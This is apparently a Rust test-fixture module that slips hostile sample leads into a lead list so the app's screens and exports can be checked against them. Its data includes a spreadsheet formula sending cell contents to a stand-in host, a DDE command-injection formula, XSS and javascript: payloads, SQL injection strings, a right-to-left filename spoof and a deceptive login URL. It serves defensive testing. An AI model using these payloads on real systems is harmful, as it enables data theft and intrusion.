//! A few leads as an attacker would write them, so that every screen and every export shows what it does with them.

/// Name and first message of the lead at `rank` from the newest, when it is one of these.
pub(super) fn at(rank: u64) -> Option<(String, &'static str)> {
    /// Not on the first screen, and not in a row.
    const FIRST: u64 = 30;
    const EVERY: u64 = 17;
    let place = rank.checked_sub(FIRST)?;
    let index = usize::try_from(place / EVERY).ok().filter(|_| place.is_multiple_of(EVERY))?;
    let (name, message) = HOSTILE.get(index)?;
    // One name that is longer than any column.
    let name = if *name == LONG { "Wolfeschlegelsteinhausenbergerdorff ".repeat(12) } else { (*name).to_owned() };
    Some((name, message))
}

const LONG: &str = "long";

const HOSTILE: [(&str, &str); 10] = [
    (
        r#"=HYPERLINK("https://collect.example/?leak="&A1,"Invoice")"#,
        "Please open my invoice: https://bank.example.com@collect.example/login",
    ),
    ("Ola \u{202e}fdp.exe\u{202c} Moyo", "My file is called \u{202e}gpj.yadiloh\u{202c}, is that a problem?"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "+1 (just agreeing)"),
    (LONG, "My name never fits into a form. Does it fit into yours?"),
    ("🌸✨ Lily 👩‍👩‍👧‍👦", "👋🏽👋🏽👋🏽 4 people & 🐕?"),
    ("<img src=x onerror=alert(1)>", "<script>document.title='owned'</script> & <b>bold?</b>"),
    ("Tab\tBell\u{7} Esc\u{1b}[31m", "One line\r\nanother\u{b}line\u{1}and the end"),
    ("＝1＋1", "－5 or ＠5?"),
    ("Z\u{338}\u{321}a\u{300}\u{33d}\u{35d}l\u{328}\u{30c}go\u{200b}\u{200b} \u{feff}Smith", "javascript:alert(1)"),
    ("Robert'); DROP TABLE leads;--", "' OR '1'='1"),
];
